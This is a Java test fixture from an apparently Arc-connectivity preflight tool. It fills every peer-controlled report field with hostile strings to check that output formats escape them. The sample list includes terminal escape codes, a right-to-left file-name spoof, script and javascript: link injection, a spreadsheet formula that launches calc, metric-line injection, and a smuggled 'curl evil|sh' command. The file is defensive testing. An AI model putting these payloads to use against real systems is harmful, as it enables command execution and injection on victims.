package io.arcpreflight.report;

import io.arcpreflight.catalog.Owner;
import io.arcpreflight.catalog.Severity;
import io.arcpreflight.diagnosis.Affected;
import io.arcpreflight.diagnosis.CheckStatus;
import io.arcpreflight.diagnosis.Confidence;
import io.arcpreflight.diagnosis.Verdict;
import io.arcpreflight.observation.Outcome;
import io.arcpreflight.observation.endpoint.EndpointObservation;
import io.arcpreflight.observation.endpoint.EndpointTarget;
import io.arcpreflight.observation.endpoint.HttpHeader;
import io.arcpreflight.observation.endpoint.PeerCertificate;
import io.arcpreflight.observation.endpoint.ProxyConnectAnswer;
import io.arcpreflight.observation.endpoint.ProxyConnectResult;
import io.arcpreflight.observation.endpoint.ProxyObservation;
import io.arcpreflight.observation.endpoint.RequestRoute;
import io.arcpreflight.observation.endpoint.TcpConnectAttempt;
import io.arcpreflight.observation.endpoint.TcpConnectOutcome;
import io.arcpreflight.observation.endpoint.TcpObservation;
import io.arcpreflight.observation.endpoint.TlsObservation;
import io.arcpreflight.observation.endpoint.TlsOutcome;
import io.arcpreflight.observation.endpoint.TrustDecision;
import io.arcpreflight.report.ReportedFinding.Step;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/** Reports in which everything that others can write is meant to break out of a format. */
public final class HostileReports {
  /** What a peer, a file or a forged report can hold. */
  public static final List<String> TEXTS =
      List.of(
          "\u001b[31mred\u001b]0;title\u0007",
          "\u202egnp.exe\u2066",
          "a|b\nc\r\nd\te",
          "```\n# heading\n<script>alert(1)</script>",
          "`code` **bold** _x_ [link](javascript:alert(1)) ![i](http://evil.test/x) @team #12",
          "<b>&amp;</b> ]]> <!-- --> <![CDATA[x]]>",
          "=cmd|' /C calc'!A0",
          "+1-1",
          "-2",
          "@SUM(A1)",
          "\"} 1\narc_preflight_exit_code 0\n# HELP x",
          "\\\" \\",
          "\ud800 half \uffff\ufffe",
          "</details></pre></testcase></testsuites>",
          "x\";curl evil|sh;\"");

  private HostileReports() {}

  private static TlsObservation tls(String text) {
    var certificate =
        new PeerCertificate(
            "CN=" + text,
            text,
            text,
            true,
            Instant.parse("2026-01-01T00:00:00Z"),
            Instant.parse("2027-01-01T00:00:00Z"),
            List.of(text),
            text,
            text);
    return new TlsObservation(
        1,
        1,
        TlsOutcome.UNTRUSTED,
        text,
        text,
        text,
        List.of(certificate),
        new TrustDecision(text, 1, false, false, false),
        text);
  }

  /** Everything is one of them. */
  public static Report of(String text) {
    var target = new EndpointTarget("arm", text, 443, "/" + text, true, false);
    var proxy = "http://" + text + ":3128";
    var attempt =
        new TcpConnectAttempt(text, TcpConnectOutcome.CONNECTED, 1, text, text + ":1", null);
    var seen =
        new EndpointObservation(
            target,
            RequestRoute.through(proxy, text),
            null,
            null,
            new ProxyObservation(
                0,
                1,
                proxy,
                text,
                null,
                new TcpObservation(0, 1, List.of(attempt), null),
                null,
                new ProxyConnectAnswer(
                    ProxyConnectResult.REJECTED,
                    403,
                    text,
                    List.of(new HttpHeader("Server", text)),
                    List.of(text),
                    false,
                    text,
                    text)),
            tls(text),
            null,
            null);
    var silent =
        new EndpointObservation(
            target,
            RequestRoute.direct(text),
            null,
            new TcpObservation(
                0,
                1,
                List.of(
                    new TcpConnectAttempt(text, TcpConnectOutcome.TIMEOUT, 1, text, text, null)),
                null),
            null,
            null,
            null,
            null);
    var checks = new ArrayList<ReportedCheck>();
    checks.add(
        Reports.check("endpoint." + text, text, text, CheckStatus.FAIL, seen, "proxy.forbidden"));
    checks.add(Reports.check("endpoint.b", text, text, CheckStatus.FAIL, silent, "tcp.timeout"));
    checks.add(Reports.couldNotRun("host.x", text, text, Outcome.Failure.CRASHED));
    var finding =
        Reports.finding(
            "proxy.forbidden",
            Severity.ERROR,
            "AZCM0026",
            List.of(text),
            new Affected(1, 2),
            text,
            List.of(text, text, text, text, text, text, text, text),
            text,
            List.of(new Step(text, text)),
            Owner.PROXY,
            Confidence.CERTAIN);
    var run = Reports.report(Verdict.NOT_READY, 26, 10, List.of(finding), checks);
    return new Report(
        run.schemaVersion(),
        new Report.Tool(text, text),
        new Report.Host(text, text, text),
        run.startedAt(),
        run.durationMs(),
        List.of(new ReportedSetting(text, text, text, List.of(text))),
        run.expectations(),
        run.verdict(),
        run.exitCode(),
        List.of(text),
        run.findings(),
        run.checks(),
        null);
  }
}
